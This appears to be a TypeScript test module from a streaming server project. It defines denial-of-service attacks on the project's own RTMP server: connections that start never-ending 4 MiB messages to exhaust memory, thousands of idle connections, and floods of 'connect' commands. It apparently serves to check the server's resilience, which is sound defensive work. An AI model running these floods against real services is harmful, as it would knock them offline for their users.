import { encodeAmf } from '../../packages/server/src/media/rtmp/amf0.ts'
import { encodeMessage, MESSAGE } from '../../packages/server/src/media/rtmp/chunks.ts'
import type { Attack } from './attack.ts'
import { hold, open, opened, pour, sleep } from './ground.ts'
import type { Ground, Tally } from './ground.ts'

const HANDSHAKE = Buffer.concat([Buffer.from([3]), Buffer.alloc(1_536 * 2)])
const MESSAGE_BYTES = 4 * 1_024 * 1_024
const CHUNK_BYTES = 1_024 * 1_024
/** What one run may send in all: the machine has to stand it. */
const MAX_SENT_BYTES = 4_000_000_000

const chunkSize = (): Buffer => {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(CHUNK_BYTES)
  return encodeMessage(2, { type: MESSAGE.setChunkSize, streamId: 0, payload })
}

/** Begins a message of 4 MiB on each of 31 chunk streams and never ends one. */
async function unfinished(ground: Ground, tally: Tally, index: number): Promise<void> {
  const end = performance.now() + ground.seconds * 1_000
  const line = open(ground, index, ground.rtmpPort)
  if (!(await opened(line))) return
  line.resume()
  line.write(Buffer.concat([HANDSHAKE, chunkSize()]))
  const part = Buffer.alloc(CHUNK_BYTES)
  for (let stream = 3; stream < 34 && !line.gone; stream++) {
    const head = Buffer.alloc(12)
    head[0] = stream
    head.writeUIntBE(MESSAGE_BYTES, 4, 3)
    head[7] = MESSAGE.video
    for (
      let piece = 0;
      piece < 3 && !line.gone && performance.now() < end && (tally.counts['bytes sent'] ?? 0) < MAX_SENT_BYTES;
      piece++
    ) {
      tally.add('bytes sent', part.length)
      line.write(piece === 0 ? head : Buffer.from([0xc0 | stream]))
      if (!line.write(part)) while (!line.gone && line.writableLength > 0 && performance.now() < end) await sleep(2)
    }
  }
  while (!line.gone && performance.now() < end) await sleep(100)
  tally.add(line.gone ? 'cut off' : 'held at the end')
  line.destroy()
}

const together = (ground: Ground, count: number, one: (index: number) => Promise<void>): Promise<unknown> =>
  Promise.all(Array.from({ length: Math.max(1, Math.round(count * ground.scale)) }, (_, index) => one(index)))

export const RTMP_ATTACKS: readonly Attack[] = [
  {
    name: 'rtmp-unfinished',
    what: '200 connections without a key, each with 31 messages of 4 MiB that never end',
    run: async (ground, tally) => void (await together(ground, 200, (index) => unfinished(ground, tally, index))),
  },
  {
    name: 'rtmp-silent',
    what: '2,050 connections that say nothing',
    run: (ground, tally) => hold(ground, tally, { count: 2_050, port: ground.rtmpPort, read: true }),
  },
  {
    name: 'rtmp-connects',
    what: '100 connections that say connect without end and read nothing',
    run: async (ground, tally) => {
      const connect = encodeMessage(3, { type: MESSAGE.command, streamId: 0, payload: encodeAmf('connect', 1, {}) })
      const block = Buffer.concat(Array.from({ length: 2_000 }, () => connect))
      await together(ground, 100, async (index) => {
        const line = open(ground, index, ground.rtmpPort)
        if (!(await opened(line))) return
        line.pause()
        line.write(HANDSHAKE)
        await pour(ground, tally, line, block)
        line.destroy()
      })
    },
  },
]
